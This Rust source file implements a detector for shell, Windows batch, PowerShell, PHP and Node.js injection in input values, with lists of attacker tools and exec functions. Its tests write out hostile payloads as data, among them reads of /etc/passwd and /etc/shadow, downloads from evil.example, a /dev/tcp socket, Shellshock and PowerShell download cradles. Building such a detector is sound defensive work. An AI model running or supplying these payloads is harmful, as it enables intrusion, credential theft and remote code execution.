//! Command and code injection: a command where the shell reads one (the value's start, after a
//! separator, inside a substitution), shell and Windows batch syntax no prose has, and calls of
//! functions that run commands or code (PHP, Node.js) where a statement may start.

use std::borrow::Cow;

use aho_corasick::AhoCorasick;
use regex::Regex;

use super::php;

/// Commands that are never an English word: Unix and Windows tools an attacker runs to look
/// around, fetch, pivot or persist.
const COMMANDS: &[&str] = &[
    "ansible",
    "awk",
    "base32",
    "base64",
    "bash",
    "bcdboot",
    "bcdedit",
    "bitsadmin",
    "busybox",
    "bzip2",
    "certutil",
    "chattr",
    "chmod",
    "chown",
    "cmd",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "dash",
    "dmesg",
    "docker",
    "gawk",
    "gcc",
    "gdb",
    "getent",
    "gunzip",
    "hostname",
    "icacls",
    "iex",
    "ifconfig",
    "ipconfig",
    "iptables",
    "irb",
    "irm",
    "iwr",
    "jjs",
    "jrunscript",
    "killall",
    "ksh",
    "kubectl",
    "lastlog",
    "lsof",
    "ltrace",
    "mkfifo",
    "mshta",
    "msiexec",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netstat",
    "nmap",
    "nslookup",
    "openssl",
    "passwd",
    "pkill",
    "powershell",
    "printenv",
    "pwsh",
    "regedit",
    "regsvr32",
    "rmt",
    "rsync",
    "rundll32",
    "schtasks",
    "scp",
    "sed",
    "sftp",
    "sh",
    "socat",
    "ssh",
    "strace",
    "su",
    "sudo",
    "systemctl",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "tftp",
    "uname",
    "unxz",
    "uptime",
    "useradd",
    "usermod",
    "vi",
    "vim",
    "visudo",
    "vssadmin",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xterm",
    "xxd",
    "zcat",
    "zsh",
];
/// Commands that are also words, and languages (talked about as often as run): they count only
/// with an argument that looks like one.
const WORD_COMMANDS: &[&str] = &[
    "alias", "at", "call", "cat", "cd", "comm", "copy", "cp", "cut", "date", "del", "diff", "dig",
    "dir", "echo", "env", "eval", "exec", "export", "file", "find", "grep", "head", "host", "id",
    "java", "kill", "last", "less", "ls", "lua", "mkdir", "more", "mount", "mv", "nl", "node",
    "od", "perl", "php", "ping", "printf", "ps", "python", "python2", "python3", "reg", "rm",
    "ruby", "set", "sleep", "sort", "start", "stat", "strings", "tac", "tail", "tar", "tee",
    "timeout", "top", "touch", "type", "unzip", "ver", "vol", "w", "wc", "who", "zip",
];
/// Functions that run a command or code when called with attacker data.
const EXEC_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "readfile",
    "include",
    "require",
    "include_once",
    "require_once",
    "base64_decode",
    "gzinflate",
    "str_rot13",
    "execsync",
    "spawn",
    "spawnsync",
    "execfile",
];

/// Wrappers that run the command that follows them: `nohup id`, `sudo -u x cat f`.
const PREFIX_COMMANDS: &[&str] = &[
    "busybox", "chroot", "doas", "ionice", "ltrace", "nohup", "setsid", "stdbuf", "strace", "sudo",
    "unbuffer", "xargs",
];
/// Wrappers that are also English words: what follows must be a command no sentence has.
const WORD_PREFIX_COMMANDS: &[&str] =
    &["command", "env", "exec", "nice", "time", "timeout", "watch"];

/// Command and code injection, with the Windows batch grammar compiled once.
pub struct Commands {
    /// `for /f "delims=" %i in (...) do ...`
    batch_for: Regex,
    /// `if [/i] [not] exist x cmd`, `if %a% equ 1 cmd`, `if "%x%"=="y" cmd`.
    batch_if: Regex,
    /// [`EXEC_FUNCTIONS`], found in one pass.
    exec_functions: AhoCorasick,
    php: php::Php,
}

impl Commands {
    pub fn new() -> Self {
        let compile = |pattern: &str| Regex::new(pattern).expect("command patterns compile");
        Self {
            batch_for: compile(
                r#"(?:^|[\s&|;(@])for(?:\s+/[a-z](?:\s+"[^"]*"|\s+[^\s%/"]+)*)*\s+%%?[^\s%]{0,20}\s+in\s*\(.*?\)\s*do\b"#,
            ),
            batch_if: compile(
                r#"(?:^|[\s&|;(@])if(?:\s*/i)?\s+(?:not\s+)?(?:(?:exist|defined)\s+\S+|errorlevel\s+\d+|(?:"[^"]*"|\S+?)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"]*"|[^\s=][^\s:]*))\s+[a-z@(.]"#,
            ),
            exec_functions: AhoCorasick::new(EXEC_FUNCTIONS).expect("exec functions compile"),
            php: php::Php::new(),
        }
    }

    /// The rule `value` (lower-cased) breaks, if any.
    pub fn check(&self, value: &str) -> Option<&'static str> {
        let value = expand_variables(value);
        if command_at(&value, Position::ValueStart) {
            return Some("cmd.shell_command");
        }
        let bytes = value.as_bytes();
        for (at, byte) in bytes.iter().enumerate() {
            let (after, position) = match byte {
                b';' | b'|' | b'&' | b'\n' => (&value[at + 1..], Position::AfterSeparator),
                b'`' if !markdown_code(&value, at) => (&value[at + 1..], Position::AfterSeparator),
                b'$' | b'<' | b'>' if bytes.get(at + 1) == Some(&b'(') => {
                    (&value[at + 2..], Position::Substitution)
                }
                _ => continue,
            };
            if command_at(after, position) {
                return Some("cmd.shell_command");
            }
        }
        if shell_expansion(&value) {
            return Some("cmd.shell_expansion");
        }
        if powershell(&value) {
            return Some("cmd.powershell");
        }
        let batch = (value.contains("for") && self.batch_for.is_match(&value))
            || (value.contains("if") && self.batch_if.is_match(&value));
        if batch {
            return Some("cmd.windows_batch");
        }
        if let Some(rule) = self.php.check(&value) {
            return Some(rule);
        }
        if value.contains("child_process")
            || value.contains("process.mainmodule")
            || value.contains(".constructor.constructor(")
            || value.contains("require('child")
            || value.contains("process.binding(")
        {
            return Some("code.nodejs");
        }
        self.exec_call(&value).then_some("code.exec_call")
    }

    /// `system('id')`, `';eval($_POST[x]);//`, `(system)('id')`: an exec function called where a
    /// statement starts (value start or after `;`, `{`, `}`, `(`, a quote or string concatenation)
    /// with input as its argument, or called through parentheses, or opening the value.
    fn exec_call(&self, value: &str) -> bool {
        // Every form calls: without a parenthesis there is nothing to look up.
        if !value.contains('(') {
            return false;
        }
        self.exec_functions
            .find_overlapping_iter(value)
            .any(|found| {
                let at = found.start();
                let head = &value[..at];
                if head.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                    return false;
                }
                let after = &value[found.end()..];
                // `(system)(`, `('system')(`, `[system][0](`: the name inside an expression whose
                // value is called.
                let opener = head.trim_end_matches(['\'', '"', ' ']);
                let closed = close_expression(after);
                let (through_expression, after) =
                    if closed.len() < after.len() && opener.ends_with(['(', '[', '{']) {
                        (true, closed)
                    } else {
                        (false, after)
                    };
                let blanks = php::skip_blanks(after);
                let Some(arguments) = after[blanks..].strip_prefix('(') else {
                    return false;
                };
                let before = head.trim_end();
                let starts_statement = before.is_empty()
                    || before
                        .ends_with([';', '{', '}', '(', '\'', '"', '.', '`', '@', '|', '&', '='])
                    || before.ends_with("<?php");
                let argument_is_input = arguments.trim_start().starts_with(['$', '\'', '"', '`'])
                    || arguments.contains("$_");
                let opens_value = before.is_empty() && blanks == 0;
                through_expression || (starts_statement && (argument_is_input || opens_value))
            })
    }
}

/// The value with shell variable expansions done as a shell without those variables would:
/// `$IFS` is whitespace, other `${name}`, `$@` and `$*` vanish (`c${x}url` is `curl`).
fn expand_variables(value: &str) -> Cow<'_, str> {
    if !value.contains('$') {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        if let Some(inner) = after.strip_prefix('{')
            && let Some(close) = inner.find('}')
            && inner[..close]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_')
        {
            if &inner[..close] == "ifs" {
                out.push(' ');
            }
            rest = &inner[close + 1..];
        } else if let Some(tail) = after.strip_prefix("ifs") {
            out.push(' ');
            rest = tail;
        } else if let Some(tail) = after.strip_prefix(['@', '*']) {
            rest = tail;
        } else {
            out.push('$');
            rest = after;
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// A backtick that opens a Markdown code span in prose (``run `ls -la` to list``): a word and a
/// space before it, and the span closed and followed by a space and more words.
fn markdown_code(value: &str, at: usize) -> bool {
    let before = value[..at].trim_end();
    let spaced_before = before.len() < at && before.ends_with(|c: char| c.is_alphabetic());
    let Some(close) = value[at + 1..].find('`') else {
        return false;
    };
    let after = &value[at + 1 + close + 1..];
    let prose_after =
        after.starts_with(' ') && after.trim_start().starts_with(|c: char| c.is_alphabetic());
    spaced_before && prose_after
}

/// PowerShell's approved verbs most used to run, fetch and hide things.
const CMDLET_VERBS: &[&str] = &[
    "add",
    "clear",
    "convertfrom",
    "convertto",
    "copy",
    "export",
    "get",
    "import",
    "invoke",
    "new",
    "out",
    "remove",
    "set",
    "start",
    "stop",
    "test",
    "write",
];

/// `Invoke-Expression`, `Get-Content`: a cmdlet is named verb-noun.
fn cmdlet(name: &str) -> bool {
    name.split_once('-').is_some_and(|(verb, noun)| {
        CMDLET_VERBS.contains(&verb)
            && noun.len() > 2
            && noun.bytes().all(|b| b.is_ascii_lowercase())
    })
}

/// PowerShell that needs no command position: .NET static members (`[Convert]::FromBase64String`)
/// and the download cradle's web client.
fn powershell(value: &str) -> bool {
    let bytes = value.as_bytes();
    // Each needle below holds a dot or a bracket: most values have neither to search for.
    if bytes.contains(&b'.')
        && (value.contains("net.webclient")
            || value.contains(".downloadstring(")
            || value.contains(".downloadfile("))
    {
        return true;
    }
    bytes.contains(&b']')
        && value.match_indices("]::").any(|(at, _)| {
            let Some(open) = value[..at].rfind('[') else {
                return false;
            };
            let type_name = &value[open + 1..at];
            !type_name.is_empty()
                && type_name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'_')
                && value[at + 3..].starts_with(|c: char| c.is_ascii_alphabetic())
        })
}

/// Shell syntax no prose has: arithmetic and process substitution, parameter expansion with
/// operators, function definitions (Shellshock) and bash's network redirections.
fn shell_expansion(value: &str) -> bool {
    // The byte each needle below starts with is looked for first: most values lack it.
    let bytes = value.as_bytes();
    let dollar = bytes.contains(&b'$');
    if (dollar && value.contains("$(("))
        || (bytes.contains(&b'/') && (value.contains("/dev/tcp/") || value.contains("/dev/udp/")))
    {
        return true;
    }
    if value.trim_start().starts_with("() {") || value.trim_start().starts_with("(){") {
        return true;
    }
    // `pi<()ng`, `w$()hoami`: an empty substitution splits a word and vanishes.
    let splits_word = bytes.contains(&b'(')
        && ["$()", "<()", ">()"].iter().any(|empty| {
            value.match_indices(empty).any(|(at, _)| {
                let before = value[..at].chars().next_back();
                let after = value[at + empty.len()..].chars().next();
                before.is_some_and(char::is_alphanumeric)
                    && after.is_some_and(char::is_alphanumeric)
            })
        });
    if splits_word {
        return true;
    }
    // `{cat,/etc/passwd}`: brace expansion spells a command and its arguments without spaces.
    let brace_command = value.match_indices('{').any(|(at, _)| {
        let (word, rest) = command_word(value[at + 1..].trim_start_matches(','));
        rest.starts_with(',') && is_command(command_name(&word))
    });
    brace_command
        || (dollar
            && value.match_indices("${").any(|(at, _)| {
                let inner = &value[at + 2..];
                let name_len = inner
                    .bytes()
                    .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                    .count();
                let operator = &inner.as_bytes()[name_len..];
                (name_len > 0 && matches!(operator.first(), Some(b'#' | b'%' | b'/' | b'^' | b',')))
                    || (name_len == 0 && matches!(operator.first(), Some(b'!' | b'#')))
            }))
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Position {
    /// The start of the value: only a command given arguments that look like arguments.
    ValueStart,
    /// After a separator.
    AfterSeparator,
    /// Inside `$(...)`, `<(...)` or `>(...)`: whatever is there runs.
    Substitution,
}

/// Whether a command starts `text`, read at `position`.
fn command_at(text: &str, position: Position) -> bool {
    let mut rest = text.trim_start_matches([' ', '\t', '|', '&', '(', '{', ',', '\n', '\r']);
    // Some(true) after a wrapper no sentence has, Some(false) after one that is also a word.
    let mut wrapped = None;
    for _ in 0..4 {
        let (word, after) = command_word(rest);
        let name = command_name(&word);
        if listed(&PREFIX_COMMAND_KEYS, name) {
            wrapped = Some(true);
        } else if listed(&WORD_PREFIX_COMMAND_KEYS, name) {
            wrapped = wrapped.or(Some(false));
        } else {
            if split_by_quotes(rest) && is_command(name) {
                return true;
            }
            return judge(name, &word, after, position, wrapped);
        }
        // A wrapper's own options, their values and numbers (`timeout 5`, `sudo -u root`)
        // come before the command it runs; with nothing after them, the wrapper is the command.
        rest = after.trim_start();
        if rest
            .split_whitespace()
            .all(|part| part.starts_with(['-', '/']) || part.bytes().all(|b| b.is_ascii_digit()))
        {
            return judge(name, &word, after, position, None);
        }
        while rest.starts_with('-') || rest.starts_with(|c: char| c.is_ascii_digit()) {
            let option = rest.starts_with('-');
            rest = skip_word(rest);
            let (next, _) = command_word(rest);
            let next = command_name(&next);
            if option
                && !is_command(next)
                && !listed(&PREFIX_COMMAND_KEYS, next)
                && !rest.starts_with('-')
            {
                rest = skip_word(rest);
            }
        }
    }
    false
}

/// The command lists as [`packed`] keys, in the same (sorted) order.
const COMMAND_KEYS: [u128; COMMANDS.len()] = packed_list(COMMANDS);
const WORD_COMMAND_KEYS: [u128; WORD_COMMANDS.len()] = packed_list(WORD_COMMANDS);
const PREFIX_COMMAND_KEYS: [u128; PREFIX_COMMANDS.len()] = packed_list(PREFIX_COMMANDS);
const WORD_PREFIX_COMMAND_KEYS: [u128; WORD_PREFIX_COMMANDS.len()] =
    packed_list(WORD_PREFIX_COMMANDS);

/// A name of at most 16 bytes as one integer, its first byte highest and zeros after its end:
/// integers order as the names do, and a lookup compares integers instead of calling `memcmp`
/// (names are looked up at every separator of every value). None for a longer name or one
/// holding a NUL, which no list holds.
const fn packed(name: &[u8]) -> Option<u128> {
    if name.len() > 16 {
        return None;
    }
    let mut key = 0u128;
    let mut at = 0;
    while at < name.len() {
        if name[at] == 0 {
            return None;
        }
        key |= (name[at] as u128) << (8 * (15 - at));
        at += 1;
    }
    Some(key)
}

const fn packed_list<const N: usize>(list: &[&str]) -> [u128; N] {
    let mut keys = [0u128; N];
    let mut at = 0;
    while at < N {
        keys[at] = match packed(list[at].as_bytes()) {
            Some(key) => key,
            None => panic!("command names are short and hold no NUL"),
        };
        at += 1;
    }
    keys
}

/// Whether `keys`, a sorted list's [`packed`] keys, hold `name`.
fn listed(keys: &[u128], name: &str) -> bool {
    packed(name.as_bytes()).is_some_and(|key| keys.binary_search(&key).is_ok())
}

fn is_command(name: &str) -> bool {
    listed(&COMMAND_KEYS, name) || listed(&WORD_COMMAND_KEYS, name)
}

fn skip_word(text: &str) -> &str {
    let end = text.find(char::is_whitespace).unwrap_or(text.len());
    text[end..].trim_start()
}

/// The first word of `text` as the shell reads it (quotes and backslashes inside a word vanish:
/// `c'a't`, `w\ho\am\i`) and what follows it.
fn command_word(text: &str) -> (Cow<'_, str>, &str) {
    let end = text
        .find(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '}' | ',')
        })
        .unwrap_or(text.len());
    let raw = &text[..end];
    let word = if raw.contains(['\'', '"', '\\']) {
        Cow::Owned(
            raw.chars()
                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
                .collect(),
        )
    } else {
        Cow::Borrowed(raw)
    };
    (word, &text[end..])
}

/// The name of the command a word runs: `/usr/bin/id` and `c:\\windows\\cmd.exe` run `id`
/// and `cmd`.
fn command_name(word: &str) -> &str {
    let mut name = word.rsplit(['/', '\\']).next().unwrap_or_default();
    // As `trim_end_matches(".exe")`, without building a substring searcher per word.
    while let Some(stem) = name.strip_suffix(".exe") {
        name = stem;
    }
    name
}

/// Whether quotes or backslashes sit inside the word (`"w"get`, `c'a't`), not only around it.
fn split_by_quotes(text: &str) -> bool {
    let end = text
        .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>'))
        .unwrap_or(text.len());
    let raw = &text[..end];
    let inner = raw
        .strip_prefix(['\'', '"'])
        .and_then(|r| r.strip_suffix(['\'', '"']))
        .unwrap_or(raw);
    inner.contains(['\'', '"', '\\'])
}

fn judge(name: &str, word: &str, rest: &str, position: Position, wrapped: Option<bool>) -> bool {
    if name.is_empty() {
        return false;
    }
    let argument = rest.trim_start_matches([' ', '\t']);
    let spaced = rest.len() > argument.len();
    let drive = argument.as_bytes();
    let windows_path = drive.len() > 2
        && drive[0].is_ascii_alphabetic()
        && drive[1] == b':'
        && matches!(drive[2], b'\\' | b'/');
    let option_or_path = spaced
        && (argument.starts_with(['-', '/', '~', '$', '\'', '"', '\\', '*'])
            || argument.starts_with("./")
            || argument.starts_with("../")
            || windows_path);
    // `/bin/sh`, `/usr/bin/id`, and the globbed `/???/c?t` that spells one.
    let binary_path =
        word.starts_with('/') && (word.contains("bin/") || word[1..].contains(['?', '*', '[']));
    if binary_path || (word.starts_with("./") && word.len() > 2) {
        return position != Position::ValueStart || option_or_path || wrapped.is_some();
    }
    // `ansible-playbook`, `ssh-copy-id`: a tool's family shares its name.
    let family = name.split('-').next().unwrap_or_default();
    let known = listed(&COMMAND_KEYS, name) || listed(&COMMAND_KEYS, family);
    let word_command = listed(&WORD_COMMAND_KEYS, name);
    // `alias a=curl`, `export x=1`: a command defined under another name, a variable set.
    let alias = matches!(name, "alias" | "export" | "set")
        && argument
            .split_once('=')
            .is_some_and(|(alias, _)| !alias.is_empty() && !alias.contains(' '));
    // After a separator, a word and an option: `;lastlog -u root`, `; ansible-vault -i x`.
    let with_option = position != Position::ValueStart
        && spaced
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'_')
        && argument
            .trim_start_matches('-')
            .starts_with(|c: char| c.is_ascii_alphabetic())
        && argument.starts_with('-');
    // `; echo x > /tmp/y`: output redirected to a file or a descriptor.
    let segment_end = rest.find([';', '|', '&', '\n']).unwrap_or(rest.len());
    let redirected = position != Position::ValueStart
        && word_command
        && rest[..segment_end]
            .split_once('>')
            .is_some_and(|(_, target)| {
                target
                    .trim_start_matches('>')
                    .trim_start()
                    .starts_with(['/', '&', '~'])
            });
    // Cmdlet nouns are English (`Get-Content`, and `get-together`): an argument must follow.
    let cmdlet_argument: &[char] = if position == Position::ValueStart {
        &['-', '$']
    } else {
        &['-', '(', '$', '\'', '"', '[', '/']
    };
    let cmdlet_call = cmdlet(name) && spaced && argument.starts_with(cmdlet_argument);
    if alias || with_option || redirected || cmdlet_call {
        return true;
    }
    match (position, wrapped) {
        (Position::Substitution, _) | (_, Some(true)) => known || word_command,
        // `;base64,iVBOR` in a data URL is no command: a command ends at a blank or an operator.
        (Position::AfterSeparator, _) if known => {
            rest.is_empty()
                || rest.starts_with(|c: char| c.is_whitespace() || ";|&<>)`".contains(c))
        }
        (_, Some(false)) => known || (word_command && option_or_path),
        (Position::ValueStart, None) => (known || word_command) && option_or_path,
        (Position::AfterSeparator, None) => {
            word_command
                && ((argument.is_empty() && rest.is_empty())
                    || argument.starts_with(['`', ';', '|', '&', ')', '>', '<'])
                    || option_or_path
                    || (spaced && argument.starts_with('%'))
                    || (spaced
                        && argument.as_bytes().first().is_some_and(u8::is_ascii_digit)
                        && name == "sleep"))
        }
    }
}

/// `text` past the closing quotes, brackets, braces and parentheses (and indexes such as
/// `[0]`) of the expression a function name sits in.
fn close_expression(text: &str) -> &str {
    let mut rest = text;
    loop {
        let trimmed = rest.trim_start_matches(['\'', '"', ' ', '\t', ')', ']', '}']);
        let indexed = trimmed
            .strip_prefix('[')
            .and_then(|index| index.split_once(']'))
            .filter(|(inside, _)| inside.trim().bytes().all(|b| b.is_ascii_digit()))
            .map(|(_, after)| after);
        match indexed {
            Some(after) => rest = after,
            None if trimmed.len() == rest.len() => return rest,
            None => rest = trimmed,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::Commands;

    #[test]
    fn injections_are_found() {
        let commands = Commands::new();
        for value in [
            "127.0.0.1; cat /etc/passwd",
            "x|whoami",
            "a && wget http://evil.example/x.sh",
            "`id`",
            "$(uname -a)",
            "x;c'a't /etc/hosts",
            "foo;/bin/sh -c ls",
            "a;${ifs}ls${ifs}-la",
            "1|sleep 5",
            "<?php system($_get['c']); ?>",
            "system('id');",
            "';eval($_post[x]);//",
            "require('child_process').exec('ls')",
            "system(whoami)",
            "('system')('whoami')",
            "exec /*comment*/ ($x)",
            // At the value's start, with arguments that look like arguments.
            "ls /etc/passwd",
            "/usr/bin/python3 -m http.server",
            "/???/c?t /???/p??s??",
            // Behind wrappers.
            "time sh -c whoami",
            "nohup who",
            "strace ifconfig",
            "sudo -u root cat /etc/shadow",
            // Expansions and substitutions.
            ";c${kk}url evil.example",
            ";lastlog -u root",
            ";ansible-vault decrypt secret",
            "x>(tee log)",
            "<(curl evil.example)",
            "${path#{}/}",
            "$(($(id) 42))",
            "exec 5<>/dev/tcp/203.0.113.9/80",
            "() { :; }; /bin/bash -c id",
            "{,echo,#test}",
            // Windows batch.
            "for /f \"delims=\" %i in ('cmd /c whoami') do echo %i",
            "& for %a in (a,b,c) do cmd",
            "if exist c:\\pagefile.sys cmd",
            "if %errorlevel% neq 0 echo failed",
            "if /i \"%var%\"==\"yes\" (echo found)",
            "if \"a a\" == \"a a\" echo same",
            "for /r c:\\temp\\ %g in (*.bak) do echo del \"%g\"",
            "& for /f \"delims=\" %i in ('cmd /c \"set /a (63+21)\"') do @set /p = x",
            ";env --version",
            "pi<()ng 127.0.0.1",
            "\"w\"get localhost",
            "alias a=curl",
            "; chef-vault -i secret",
            "[system][0](ls);",
            "(string) {[system][0]} ('uname');",
            "& dir c:\\",
            "| type c:\\windows\\win.ini",
            "; echo test > /tmp/x",
            "| timeout /t 10",
            "; export x=1",
            "; invoke-expression (new-object x).y",
            "& iex (iwr http://evil.example/a.ps1)",
            "[system.convert]::frombase64string('aWQ=')",
            "(new-object net.webclient).downloadstring('http://evil.example/x')",
        ] {
            assert!(commands.check(value).is_some(), "missed {value:?}");
        }
    }

    #[test]
    fn command_lists_are_sorted_for_lookup() {
        for list in [
            super::COMMANDS,
            super::WORD_COMMANDS,
            super::PREFIX_COMMANDS,
            super::WORD_PREFIX_COMMANDS,
        ] {
            assert!(list.windows(2).all(|pair| pair[0] < pair[1]), "{list:?}");
        }
        for name in super::COMMANDS {
            assert!(super::listed(&super::COMMAND_KEYS, name), "{name}");
        }
        for name in super::WORD_COMMANDS {
            assert!(super::listed(&super::WORD_COMMAND_KEYS, name), "{name}");
        }
        for missing in [
            "",
            "c",
            "curlx",
            "cur",
            "sh\0",
            "ls\0\0",
            "averyveryverylongname",
        ] {
            assert!(!super::listed(&super::COMMAND_KEYS, missing), "{missing}");
            assert!(
                !super::listed(&super::WORD_COMMAND_KEYS, missing),
                "{missing}"
            );
        }
    }

    #[test]
    fn prose_and_code_talk_are_not() {
        let commands = Commands::new();
        for value in [
            "tom & jerry; cat food is on sale",
            "salt & pepper | fish & chips",
            "r&d; id card renewal",
            "call system(config) only after init",
            "system (linux)",
            "use eval(x) sparingly in templates",
            "the command line is documented in the ls man page",
            "5 mg; sleep well",
            "run `ls -la` in the project folder to see hidden files.",
            "ruby on rails; python for data",
            "nice cat, time for bed",
            "watch less tv & sleep more",
            "price is ${amount} today",
            "for each item in (the list) do nothing",
            "if (count == 0) { return; }",
            "if x == 1: print(x)",
            "if you exist, say hi",
            "mozilla/5.0 (x11; linux x86_64; rv:126.0) gecko/20100101 firefox/126.0",
            "so angry >(",
            "\"quoted\" words and 'single' ones; fine",
            "salt & pepper -- to taste",
            "environment (prod) [0] (eu)",
            "q&a: -- see the faq",
            "tea; time out > coffee",
            "r&d; set goals = profit",
            "5 items; timeout (30s) applies",
            "a; get-together at noon",
            "get-together (friday)",
            "data:image/png;base64,ivborw0kggoaaaansuheugaaaaeaaaabcayaaaaffcsj",
            "see [docs]:: for details",
        ] {
            assert_eq!(commands.check(value), None, "flagged {value:?}");
        }
    }
}
